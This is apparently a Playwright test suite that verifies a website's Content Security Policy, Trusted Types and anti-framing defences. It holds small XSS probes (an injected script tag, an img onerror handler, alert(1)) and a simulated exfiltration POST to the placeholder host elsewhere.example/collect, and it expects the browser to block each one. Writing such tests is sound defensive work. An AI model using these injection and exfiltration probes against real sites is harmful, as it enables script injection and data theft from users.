import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from './fixtures.ts'
import { sitePages } from './routes.ts'

/** The lines of the browser about something that the policy blocks. */
const stopped = /Content Security Policy|Trusted ?(Types?|Script)|TrustedHTML|Framing/i

test('every page and file carries the headers', async ({ request }) => {
  const get = (path: string) => request.get(path, { headers: { accept: 'text/html' } })
  const [script] = /\/assets\/[^"]+\.js/.exec(await (await get('/')).text()) ?? []
  if (!script) throw new Error('The page names no script.')
  for (const path of [...sitePages.map((page) => page.path), script, '/robots.txt']) {
    const headers = (await get(path)).headers()
    expect(headers['content-security-policy'], path).toMatch(
      /^default-src 'none'; script-src 'self' 'sha256-/,
    )
    expect(headers['content-security-policy'], path).not.toMatch(/script-src[^;]*'unsafe-/)
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
    })
  }
})

test('a script that was written into the page does not run, and the page still does', async ({
  page,
  allowedNoise,
}) => {
  allowedNoise.push(stopped)
  await page.route('**/about', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace(
      '<div id="root" ',
      '<script>window.smuggled = true</script><img src="data:," onerror="smuggled = true"><div id="root" ',
    )
    await route.fulfill({ response, body })
  })
  await page.goto('/about')
  await expect(page.locator('body > img')).toHaveCount(1)
  expect(await page.evaluate(() => 'smuggled' in window)).toBe(false)
})

test('what got into the page’s code reaches neither HTML nor other sites', async ({
  page,
  allowedNoise,
}) => {
  allowedNoise.push(stopped)
  await page.goto('/about')
  const outcome = await page.evaluate(async () => {
    const attempts: Record<string, string> = {}
    const attempt = (name: string, act: () => void) => {
      try {
        act()
        attempts[name] = 'done'
      } catch (error) {
        attempts[name] = error instanceof Error ? error.name : 'thrown'
      }
    }
    attempt('HTML from text', () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="x">')
    })
    attempt('a script of another site', () => {
      const script = document.createElement('script')
      script.src = 'https://elsewhere.example/script.js'
      document.head.append(script)
    })
    attempt('an inline handler', () => {
      document.body.setAttribute('onclick', 'alert(1)')
    })
    const answer = await fetch('https://elsewhere.example/collect', { method: 'POST' }).then(
      () => 'sent',
      () => 'refused',
    )
    return { attempts, answer }
  })
  expect(outcome).toEqual({
    attempts: {
      'HTML from text': 'TypeError',
      'a script of another site': 'TypeError',
      'an inline handler': 'TypeError',
    },
    answer: 'refused',
  })
})

test('no other site can show this one in a frame', async ({ page, baseURL, allowedNoise }) => {
  allowedNoise.push(stopped, /Refused to display|refused to connect/i)
  const elsewhere = createServer((_, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(`<iframe src="${baseURL}/contact" title="Framed"></iframe>`)
  })
  await once(elsewhere.listen(0, '127.0.0.1'), 'listening')
  try {
    const answered = page.waitForResponse(`${baseURL}/contact`)
    await page.goto(`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`)
    await answered
    await expect
      .poll(() => page.frames().map((frame) => frame.url()))
      .not.toContain(`${baseURL}/contact`)
    await expect(page.frameLocator('iframe').getByRole('heading')).toHaveCount(0)
  } finally {
    elsewhere.close()
    elsewhere.closeAllConnections()
  }
})
